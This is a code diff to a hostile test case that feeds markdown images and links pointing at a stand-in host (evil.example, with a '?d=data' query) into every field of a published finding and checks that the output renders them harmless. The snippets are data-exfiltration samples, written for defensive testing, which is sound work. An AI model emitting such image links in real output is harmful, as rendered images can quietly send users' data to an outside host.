@@ -1,6 +1,6 @@
 import { type HostileCase, judge } from '../case.ts';
-import { actsIn } from '../kit/acts.ts';
-import { publish } from '../kit/publish.ts';
+import { actsInAll } from '../kit/acts.ts';
+import { listTitles, markdownOf, publish } from '../kit/publish.ts';
 
 const EVIL = 'https://evil.example/i.png?d=data';
 
@@ -49,23 +49,35 @@ const SNIPPETS: readonly string[] = [
   `![x](//evil.example/i.png)`,
 ];
 
+/** Where it must be harmless, and where it must have stood for that to mean anything. */
+const PLACES = ['summary', 'check 0: summary', 'check 0: text', 'review 0', 'comment 0'] as const;
+
 export const hostile: HostileCase = {
   number: 104,
   title: 'Images and links to a foreign host, in each field of a finding',
   area: 'output',
   lanes: ['unprivileged'],
   async attack(place, defence) {
+    const seen = new Map<string, string>();
+    const note = (name: string, text: string | undefined) => {
+      if (text === undefined) throw new Error(`There is no ${name}.`);
+      const acts = actsInAll({ [name]: text });
+      if (acts !== null) seen.set(name, acts);
+    };
     const got = await Promise.all(
       SNIPPETS.map(async (snippet, at) => {
         const told = {
           findings: [{ title: snippet, message: snippet, remedy: snippet, suggestion: snippet }],
         };
-        const { summary } = await publish(place, { ...told, summary: snippet }, defence);
-        const acts = actsIn(summary);
-        return [`${at} ${snippet.slice(0, 30)}`, acts.length > 0 ? acts.join(', ') : null] as const;
+        const published = await publish(place, { ...told, summary: snippet }, defence);
+        const texts = markdownOf(published);
+        for (const name of PLACES) note(name, texts[name]);
+        return [`${at} ${snippet.slice(0, 30)}`, actsInAll(texts)] as const;
       }),
     );
-    return judge(defence, Object.fromEntries(got));
+    const places = Object.fromEntries(PLACES.map((name) => [name, seen.get(name) ?? null]));
+    const listed = actsInAll(await listTitles(place, SNIPPETS, defence));
+    return judge(defence, { ...Object.fromEntries(got), ...places, 'the list of a review': listed });
   },
   seconds: 120,
 };
